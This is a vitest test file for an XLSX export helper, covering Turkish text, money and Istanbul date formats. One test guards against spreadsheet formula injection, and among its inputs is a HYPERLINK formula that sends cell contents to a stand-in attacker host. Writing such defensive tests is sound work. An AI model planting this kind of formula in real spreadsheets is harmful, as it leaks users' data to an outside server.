import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { readXlsxRows, writeXlsx, type XlsxColumn, type XlsxRow } from './xlsx.js';

const columns: XlsxColumn[] = [
  { header: 'Müşteri', key: 'name', kind: 'text', width: 30 },
  { header: 'Tutar', key: 'amount', kind: 'money' },
  { header: 'İşlem zamanı', key: 'paidAt', kind: 'datetime' },
  { header: 'Son gün', key: 'validity', kind: 'date' },
  { header: 'Taksit', key: 'installments', kind: 'integer' },
];

const rows: XlsxRow[] = [
  {
    name: 'Şişli Güneş Çağrı Öztürk İĞÜŞÖÇ ığüşöç',
    amount: '1250.00',
    // 21:30 UTC is 00:30 the next day in Istanbul.
    paidAt: new Date('2026-03-15T21:30:00Z'),
    validity: '2026-03-31',
    installments: 3,
  },
  // An empty row between filled ones stays an empty row.
  { name: null, amount: null, paidAt: null, validity: null, installments: null },
  {
    name: 'Örnek Sanayi Ltd. Şti.',
    amount: '999999999.99',
    paidAt: '2026-07-01T09:05:59+03:00',
    validity: new Date('2026-06-30T22:00:00Z'),
    installments: '12',
  },
];

async function load(buffer: Buffer) {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(buffer as unknown as ArrayBuffer);
  const sheet = workbook.worksheets[0];
  if (!sheet) {
    throw new Error('no sheet');
  }
  return sheet;
}

describe('writeXlsx', () => {
  it('round-trips Turkish text, money and Istanbul dates', async () => {
    const buffer = await writeXlsx({ sheetName: 'İşlemler', columns, rows });
    expect(await readXlsxRows(buffer)).toEqual([
      ['Müşteri', 'Tutar', 'İşlem zamanı', 'Son gün', 'Taksit'],
      ['Şişli Güneş Çağrı Öztürk İĞÜŞÖÇ ığüşöç', '1250', '16.03.2026 00:30', '31.03.2026', '3'],
      ['', '', '', '', ''],
      ['Örnek Sanayi Ltd. Şti.', '999999999.99', '01.07.2026 09:05', '01.07.2026', '12'],
    ]);
  });

  it('writes typed cells with formats, a bold frozen header and a filter', async () => {
    const sheet = await load(await writeXlsx({ sheetName: 'İşlemler', columns, rows }));
    expect(sheet.name).toBe('İşlemler');
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    expect(sheet.autoFilter).toBe('A1:E1');
    expect(sheet.getRow(1).getCell(1).font?.bold).toBe(true);
    expect(sheet.getColumn(1).width).toBe(30);
    const [text, money, datetime, date, integer] = [1, 2, 3, 4, 5].map((c) => sheet.getRow(2).getCell(c));
    expect(text?.type).toBe(ExcelJS.ValueType.String);
    expect(money?.type).toBe(ExcelJS.ValueType.Number);
    expect(money?.value).toBe(1250);
    expect(money?.numFmt).toBe('#,##0.00');
    expect(datetime?.type).toBe(ExcelJS.ValueType.Date);
    expect(datetime?.numFmt).toBe('dd.mm.yyyy hh:mm');
    expect(date?.numFmt).toBe('dd.mm.yyyy');
    expect(date?.value).toEqual(new Date('2026-03-31T00:00:00Z'));
    expect(integer?.type).toBe(ExcelJS.ValueType.Number);
  });

  it('writes formula-looking text as text, never as a formula', async () => {
    const attacks = ['=HYPERLINK("http://evil.test/?d="&A1,"Tıkla")', '+1+1', '-2+3', '@SUM(A1:A2)', '=1+1'];
    const buffer = await writeXlsx({
      sheetName: 'Injection',
      columns: [{ header: 'Açıklama', key: 'description', kind: 'text' }],
      rows: attacks.map((description) => ({ description })),
    });
    const sheet = await load(buffer);
    attacks.forEach((attack, index) => {
      const cell = sheet.getRow(index + 2).getCell(1);
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      expect(cell.formula).toBeUndefined();
      expect(cell.value).toBe(attack);
    });
    expect((await readXlsxRows(buffer)).slice(1).map(([cell]) => cell)).toEqual(attacks);
  });

  it('takes rows from an async iterable and cleans the sheet name', async () => {
    async function* fromDatabase(): AsyncIterable<XlsxRow> {
      for (let i = 1; i <= 3; i += 1) {
        yield { amount: `${i}0.50` };
      }
    }
    const buffer = await writeXlsx({
      sheetName: 'Ödeme/Linkleri [2026]: çok uzun bir sayfa adı',
      columns: [{ header: 'Tutar', key: 'amount', kind: 'money' }],
      rows: fromDatabase(),
    });
    expect(await readXlsxRows(buffer)).toEqual([['Tutar'], ['10.5'], ['20.5'], ['30.5']]);
    expect((await load(buffer)).name).toBe('Ödeme Linkleri  2026   çok uzun');
  });

  it('refuses a money value that is not a number', async () => {
    await expect(
      writeXlsx({
        sheetName: 'x',
        columns: [{ header: 'Tutar', key: 'amount', kind: 'money' }],
        rows: [{ amount: '1.250,00' }],
      }),
    ).rejects.toThrow('column amount holds a non-number');
  });
});
